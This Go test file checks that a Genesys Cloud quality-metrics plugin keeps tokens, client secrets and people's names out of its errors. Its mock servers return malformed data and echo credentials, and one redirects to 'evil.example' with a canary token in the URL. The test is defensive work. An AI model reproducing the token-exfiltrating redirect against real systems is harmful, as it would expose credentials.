package plugin

import (
	"fmt"
	"net/http"
	"strings"
)

// person is in the name and the id of everybody in these tests.
const person = "person-7c41"

// people answers the Quality Metrics API about two people, with what a case adds to the second.
func people(second string) http.HandlerFunc {
	const row = `{"entityId":"%[1]s-%[2]d","entityName":"Name of %[1]s","metrics":{"averageScore":{"value":80},"passRate":{"value":75},"count":{"value":8}}}`
	return answering("[" + fmt.Sprintf(row, person, 1) + "," + second + "]")
}

func somebody(metrics string) string {
	return fmt.Sprintf(`{"entityId":"%[1]s-2","entityName":"Name of %[1]s","metrics":{%[2]s}}`, person, metrics)
}

// leakCases are what goes well and what goes wrong while people and secrets pass through.
var leakCases = []struct {
	name    string
	api     string
	arrange func(*genesysCloud)
	// fails says that the first query must fail, else the case would show nothing.
	fails bool
}{
	{"numbers", "qualityMetrics", func(g *genesysCloud) { g.metrics = people(somebody(`"count":{"value":0}`)) }, false},
	{"a row without a score", "qualityMetrics", func(g *genesysCloud) { g.metrics = people(somebody(`"count":{"value":4}`)) }, true},
	{"a person twice", "qualityMetrics", func(g *genesysCloud) {
		g.metrics = people(fmt.Sprintf(`{"entityId":"%s-1","entityName":"Twin","metrics":{"count":{"value":0}}}`, person))
	}, true},
	{"a name that is none", "qualityMetrics", func(g *genesysCloud) {
		g.metrics = people(fmt.Sprintf(`{"entityId":"%[1]s-2","entityName":{"first":"%[1]s"}}`, person))
	}, true},
	{"a refusal that repeats the token", "qualityMetrics", func(g *genesysCloud) {
		g.metrics = func(w http.ResponseWriter, r *http.Request) {
			genesysError(403, nil, r.Header.Get("Authorization"))(w, r)
		}
	}, true},
	{"a redirect that repeats the token", "qualityMetrics", func(g *genesysCloud) {
		g.metrics = func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://u:canary-token-91b2@evil.example/?t=canary-token-91b2&"+person, http.StatusFound)
		}
	}, true},
	{"a login page that repeats all", "qualityMetrics", func(g *genesysCloud) {
		g.metrics = func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			_, _ = fmt.Fprintf(w, "<html>%s %s %s", r.Header.Get("Authorization"), clientSecret, person)
		}
	}, true},
	{"a token that is refused", "qualityMetrics", func(g *genesysCloud) {
		g.token = func(w http.ResponseWriter, r *http.Request) {
			body := fmt.Sprintf(`{"error":"invalid_client","error_description":"%s is wrong"}`, r.FormValue("client_secret"))
			status(401, nil, body)(w, r)
		}
	}, true},
	{"a token of another kind", "qualityMetrics", func(g *genesysCloud) {
		g.token = answering(`{"access_token":"canary-token-91b2","token_type":"mac","expires_in":3600}`)
	}, true},
	{"numbers of the other API", "analytics", arrangePeople, false},
	{"a group twice", "analytics", func(g *genesysCloud) {
		arrangePeople(g)
		g.aggregates = answering(`{"results":[` + peopleGroup + `,` + peopleGroup + `]}`)
	}, true},
	{"an interval that is none", "analytics", func(g *genesysCloud) {
		arrangePeople(g)
		g.aggregates = answering(strings.ReplaceAll(`{"results":[`+peopleGroup+`]}`, "2026-11-27T12:15", "2026-11-28T12:15"))
	}, true},
	{"names that are refused", "analytics", func(g *genesysCloud) {
		arrangePeople(g)
		g.users = genesysError(403, nil, "Missing permission directory:user:view")
	}, false},
	{"names that cannot be used", "analytics", func(g *genesysCloud) {
		arrangePeople(g)
		g.users = answering(`{"entities":[{"id":"` + person + `-1","name":7}]}`)
		g.search = answering(`{"results":[{"id":"e-1","agent":{"id":"` + person + `-1"}}]}`)
	}, false},
}

const peopleGroup = `{"group":{"userId":"` + person + `-1","contextId":"f-1","evaluationId":"e-1"},"data":[{"interval":"2026-11-27T11:15:00.000Z/2026-11-27T12:15:00.000Z",` +
	`"metrics":[{"metric":"nEvaluations","stats":{"count":1}},{"metric":"oTotalScore","stats":{"count":1,"sum":90,"min":90,"max":90}}]}]}`

func arrangePeople(g *genesysCloud) {
	g.aggregates = answering(`{"results":[` + peopleGroup + `]}`)
	g.users = answering(`{"entities":[{"id":"` + person + `-1","name":"Name of ` + person + `"}],"pageNumber":1,"pageCount":1}`)
	g.queues, g.forms = answering(`{"entities":[]}`), answering(`{"entities":[]}`)
	g.search = answering(`{"total":1,"results":[{"id":"e-1","status":"FINISHED","agent":{"id":"` + person + `-1"},"evaluator":{"id":"` + person + `-2"},` +
		`"conversation":{"id":"c-1"},"submittedDate":"2026-11-27T11:30:00Z","totalScore":90}]}`)
	g.tokensMe = answering(`{"organization":{"id":"o","name":"Acme"},"OAuthClient":{"id":"c","name":"Wallboard"},"authorizedScope":["quality:readonly"]}`)
}
